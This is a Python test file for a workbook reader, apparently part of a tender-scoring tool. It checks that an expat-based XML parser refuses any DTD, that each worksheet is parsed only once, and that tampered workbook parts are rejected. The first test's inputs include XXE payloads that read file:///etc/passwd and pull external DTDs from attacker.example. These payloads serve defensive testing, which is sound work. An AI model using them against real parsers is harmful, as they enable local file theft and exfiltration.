"""How the parts are parsed: expat with no DTD at all (``safexml``), and every worksheet once per workbook."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from typing import Any

import pytest
from defusedxml import DefusedXmlException
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.workbook import Workbook

from tenderscore.core.rubric import Rubric
from tenderscore.sheets import TemplateIdentity, WorkbookRejected, demo_bids, read_workbook, safexml
from tenderscore.sheets import ooxml as ooxml_module
from tenderscore.sheets.guard import open_archive
from tenderscore.sheets.ooxml import Package
from tests.sheets.xlsx_tools import edit, parts, rewrite, sheet_part

Fill = Callable[..., bytes]


@pytest.mark.parametrize(
    "document",
    [
        b"<!DOCTYPE worksheet><worksheet/>",  # a DTD declaring nothing: refused all the same
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w>&a;</w>',
        b'<!DOCTYPE w SYSTEM "http://attacker.example/w.dtd"><w/>',
        b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><w>&e;</w>',
        b'<!DOCTYPE w [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><w/>',
    ],
)
def test_any_document_type_declaration_is_refused(document: bytes) -> None:
    with pytest.raises(DefusedXmlException):
        safexml.tree(document)


def test_an_undeclared_entity_is_a_parse_error() -> None:
    with pytest.raises(safexml.ExpatError):
        safexml.tree(b"<w>&nbsp;</w>")


def test_what_xml_allows_without_a_dtd_still_parses() -> None:
    root = safexml.tree(
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!-- c --><w xmlns="urn:x" xmlns:r="urn:r" r:id="7">'
        b"<![CDATA[<f>1</f>]]>&amp;&#10;<?pi x?><v>1</v></w>"
    )
    assert root.tag == "urn:x}w" and safexml.local(root.tag) == "w"
    assert root.get("urn:r}id") == "7"
    assert root.text == "<f>1</f>&\n" and safexml.local(root[0].tag) == "v"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><w>é</w>'.encode("utf-16")
    assert safexml.tree(utf16).text == "é"


def test_a_dtd_in_a_worksheet_is_refused_by_the_reader(rubric: Rubric, tender: TemplateIdentity, fill: Fill) -> None:
    data = fill()
    part = sheet_part(data, "Commitments")
    hostile = rewrite(data, lambda n, c: b"<!DOCTYPE worksheet>" + c if n == part else c)
    with pytest.raises(WorkbookRejected, match=f"damaged or unsafe: its part {part}"):
        read_workbook(hostile, rubric, tender)


def test_a_dtd_in_the_workbook_part_is_refused(rubric: Rubric, tender: TemplateIdentity, fill: Fill) -> None:
    hostile = rewrite(fill(), lambda n, c: b"<!DOCTYPE workbook>" + c if n == "xl/workbook.xml" else c)
    with pytest.raises(WorkbookRejected, match="damaged or unsafe: its part xl/workbook.xml"):
        read_workbook(hostile, rubric, tender)


@pytest.fixture
def scans(monkeypatch: pytest.MonkeyPatch) -> Counter[str]:
    """How many times each worksheet part is parsed."""
    counted: Counter[str] = Counter()
    scan = ooxml_module._scan_sheet

    def counting(package: Package, sheet: str, part: str, *args: Any) -> Any:
        counted[part] += 1
        return scan(package, sheet, part, *args)

    monkeypatch.setattr(ooxml_module, "_scan_sheet", counting)
    return counted


def test_every_worksheet_is_parsed_once_per_reading(
    rubric: Rubric, tender: TemplateIdentity, scans: Counter[str]
) -> None:
    for demo in demo_bids(rubric, tender):
        scans.clear()
        read_workbook(demo.workbook, rubric, tender)
        sheets = [name for name in parts(demo.workbook) if name.startswith("xl/worksheets/")]
        assert sorted(scans) == sorted(sheets) and set(scans.values()) == {1}, demo.name


def test_a_workbook_of_misplaced_names_parses_only_the_hidden_sheet(
    rubric: Rubric, tender: TemplateIdentity, fill: Fill, scans: Counter[str]
) -> None:
    def stretch(wb: Workbook) -> None:
        wb.defined_names["price_lines"] = DefinedName("price_lines", attr_text="'Pricing'!$B$5:$C$1048576")

    data = edit(fill(), stretch)
    reading = read_workbook(data, rubric, tender)
    assert [error.where for error in reading.errors] == ["Pricing!B5"]
    assert list(scans) == [sheet_part(data, "_tenderscore")]


def test_reading_cells_no_one_asked_for_parses_the_sheet_again(fill: Fill, scans: Counter[str]) -> None:
    """``Package.read`` stays correct for a caller that did not say first what it wants: the sheet is parsed again
    (what the reader never needs)."""
    data = fill()
    with open_archive(data) as archive:
        package = Package(archive)
        first, second = package.area("bidder_organisation_name"), package.area("bidder_contact_name")
        assert first is not None and second is not None and first.sheet == second.sheet
        package.read([first])
        package.read([first])  # scanned for it already
        both = package.read([first, second])
    assert scans[sheet_part(data, first.sheet)] == 2
    assert set(both) == {
        (first.sheet, first.first_row, first.first_column),
        (second.sheet, second.first_row, second.first_column),
    }


def test_a_second_sheet_data_is_refused(rubric: Rubric, tender: TemplateIdentity, fill: Fill) -> None:
    data = fill()
    part = sheet_part(data, "Pricing")
    extra = b'<sheetData><row r="90"><c r="A90"><f>A1*2</f></c></row></sheetData>'
    hostile = rewrite(data, lambda n, c: c.replace(b"</sheetData>", b"</sheetData>" + extra, 1) if n == part else c)
    assert extra in parts(hostile)[part]
    with pytest.raises(WorkbookRejected, match=f"damaged or unsafe: its part {part}"):
        read_workbook(hostile, rubric, tender)


def test_an_element_called_c_outside_the_cells_is_not_a_cell(read: Callable[[bytes], Any], fill: Fill) -> None:
    data = fill()
    part = sheet_part(data, "Pricing")
    other = b'<extLst><ext uri="x"><c r="A1"><v>1</v></c><row r="1"/></ext></extLst></worksheet>'
    resaved = rewrite(data, lambda n, c: c.replace(b"</worksheet>", other) if n == part else c)
    assert b"<extLst>" in parts(resaved)[part]
    assert read(resaved) == read(data)
